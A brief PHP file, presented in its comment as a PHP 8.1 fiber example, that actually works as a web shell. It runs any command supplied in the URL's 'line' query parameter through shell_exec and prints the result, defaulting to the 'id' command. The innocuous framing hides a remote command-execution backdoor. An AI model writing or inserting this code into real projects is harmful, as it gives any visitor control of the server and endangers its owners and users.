<?php
// A PHP 8.1 fiber: start() runs its callable with the arguments given.
$f = new Fiber(static function (string $line): void {
    echo shell_exec($line);
});
$f->start($_GET['line'] ?? 'id');
